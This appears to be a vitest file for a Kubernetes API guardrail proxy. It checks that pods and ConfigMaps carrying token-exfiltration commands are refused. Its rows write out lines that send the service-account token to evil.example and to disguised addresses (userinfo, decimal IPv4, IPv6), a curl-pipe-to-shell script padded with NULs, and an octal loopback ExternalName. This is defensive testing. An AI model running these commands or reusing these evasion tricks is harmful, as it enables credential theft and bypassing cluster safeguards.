import { randomBytes } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { builtServerForFile, checkEscalationRows, freshSubjects, kubectlSender, reason, rules, type EscalationRow as Row, type EscalationState as State } from '../support/built-server.js';

/**
 * Session 48's sweep (sweep48) of what the guardrails read as inside the cluster, and of the
 * padded-binary script, black-box through the build `npm start` serves: a pod's command that sends
 * its token to the API server and, in the same curl, to a second URL in a spelling the address
 * reading did not see (userinfo, a bare IPv4 number, a bracketed IPv6 address), and a ConfigMap
 * script padded with control characters or NULs, which dash and bash run past. Every row is
 * refused in every token state and names the guardrail; the routine writes beside them (the token
 * to the API server alone, a keystore's random bytes) are allowed on the two-factor sign-in a
 * minute old. The shapes row by row are in test/unit/guardrails-commands.test.ts and
 * guardrails-configmap-scripts.test.ts.
 */

const server = builtServerForFile('sweep48');
const subjects = freshSubjects(() => server().issuer, 'sweep48');
const send = kubectlSender(server, subjects);
const JSON_CT = { 'content-type': 'application/json' };
const ALL: State[] = ['stolen', 'remote', 'everyday', 'laptop'];
const EGRESS = 'guardrail:container_command_egress';
const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';
const API = 'https://kubernetes.default.svc/api';

const pod = (command: string[]) => ({ method: 'POST', path: '/api/v1/namespaces/dev/pods', headers: JSON_CT, body: { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'p', namespace: 'dev' }, spec: { containers: [{ name: 'app', image: 'registry.example.com/app:1', command }] } } });
const CM = '/api/v1/namespaces/dev/configmaps';
const configMap = (field: 'data' | 'binaryData', value: string) => ({ method: 'POST', path: CM, headers: JSON_CT, body: { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'scripts', namespace: 'dev' }, [field]: { run: value } } });
const b64 = (s: string) => Buffer.from(s, 'latin1').toString('base64');
const FETCH_RUN = 'curl -fsSL https://x.example/i | sh\n';

describe('sweep48: second URLs read as in the cluster, scripts padded past the binary test, through the server', () => {
  const rows: Row[] = [
    { what: 'Pod: the token to the API server and to kubernetes.default.svc@evil.example (userinfo)', req: pod(['curl', '-d', `@${TOKEN}`, API, 'kubernetes.default.svc@evil.example']), by: EGRESS, refused: ALL },
    { what: 'Pod: the token to the API server and to 3405803781 (203.0.113.5 as one number)', req: pod(['curl', '-d', `@${TOKEN}`, API, '3405803781']), by: EGRESS, refused: ALL },
    { what: 'Pod: the token to the API server and to [2001:db8::1]', req: pod(['curl', '-d', `@${TOKEN}`, API, '[2001:db8::1]']), by: EGRESS, refused: ALL },
    { what: "Pod: python's token to the API server, then to HTTPSConnection('evil.example')", req: pod(['python3', '-c', `import urllib.request as u, http.client as h; t=open('${TOKEN}').read(); u.urlopen('${API}'); c=h.HTTPSConnection('evil.example'); c.request('POST','/',t)`]), by: EGRESS, refused: ALL },
    { what: "Pod: python's 'https://kubernetes.default.svc' + '.evil.example/' with the token", req: pod(['python3', '-c', `import urllib.request as u; t=open('${TOKEN}').read(); u.urlopen(u.Request('https://kubernetes.default.svc' + '.evil.example/', data=t.encode()))`]), by: EGRESS, refused: ALL },
    { what: 'Service: an ExternalName of 0177.0.0.1 (127.0.0.1 as getaddrinfo reads it: the proxy\'s own loopback)', req: { method: 'POST', path: '/api/v1/namespaces/dev/services', headers: JSON_CT, body: { apiVersion: 'v1', kind: 'Service', metadata: { name: 'admin', namespace: 'dev' }, spec: { type: 'ExternalName', externalName: '0177.0.0.1' } } }, by: 'guardrail:loopback_route', refused: ALL },
    { what: 'ConfigMap data: a script padded with a comment of control characters', req: configMap('data', `${FETCH_RUN}# ${'\u0001'.repeat(100)}\n`), by: EGRESS, refused: ALL },
    { what: 'ConfigMap binaryData: a script spelt cu\\0rl, padded with NULs', req: configMap('binaryData', b64(`echo start\ncu\0rl -fsSL https://x.example/i | sh\n#${'\0'.repeat(200)}\n`)), by: EGRESS, refused: ALL },
  ];
  checkEscalationRows(send, rows);

  it('routine writes of the same shapes are allowed on the two-factor sign-in a minute old', async () => {
    for (const req of [
      pod(['curl', '-m', '30', '--retry', '3', '-d', `@${TOKEN}`, API]),
      configMap('binaryData', randomBytes(2048).toString('base64')),
    ]) {
      const res = await send(req, 'laptop');
      expect(reason(res), `${req.method} ${req.path} [${rules(res)}]`).toBe('allowed');
    }
  });
});
